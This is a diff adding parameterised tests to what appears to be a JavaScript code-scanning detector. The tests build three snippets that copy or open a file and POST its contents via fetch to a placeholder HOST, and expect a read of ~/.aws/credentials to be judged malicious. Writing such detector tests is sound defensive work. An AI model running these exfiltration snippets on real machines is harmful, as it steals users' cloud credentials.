@@ -75,6 +75,27 @@ describe('a secret is read', () => {
     expect(['clean', 'note']).toContain(await verdictOf(read(`__dirname + '/words.txt'`)));
   });
 
+  test.each([
+    [
+      'a copy of it',
+      (path: string) =>
+        `const fs = require('fs'), h = require('os').homedir(), other = require('os').tmpdir() + '/a.bin';\nfs.copyFileSync(${path}, other);\nsetTimeout(() => fetch('${HOST}', { method: 'POST', body: fs.readFileSync(other) }), 900);`,
+    ],
+    [
+      'a copy of it, later',
+      (path: string) =>
+        `const fs = require('fs'), h = require('os').homedir(), other = require('os').tmpdir() + '/a.bin';\nfs.copyFile(${path}, other, () => fs.readFile(other, (_, body) => fetch('${HOST}', { method: 'POST', body })));`,
+    ],
+    [
+      'a handle of it',
+      (path: string) =>
+        `const { open } = require('fs/promises'), h = require('os').homedir();\n(async () => {\n  const file = await open(${path});\n  const { buffer } = await file.read(Buffer.alloc(4096), 0, 4096, 0);\n  await fetch('${HOST}', { method: 'POST', body: buffer });\n})();`,
+    ],
+  ])('by %s', async (_name, read) => {
+    expect(await verdictOf(read(`h + '/.aws/credentials'`))).toBe('malicious');
+    expect(['clean', 'note']).toContain(await verdictOf(read(`__dirname + '/words.txt'`)));
+  });
+
   test.each([`require('./words.json')`, `require('child_process').execSync('git rev-parse HEAD').toString()`])(
     'but not by %s',
     async data => {
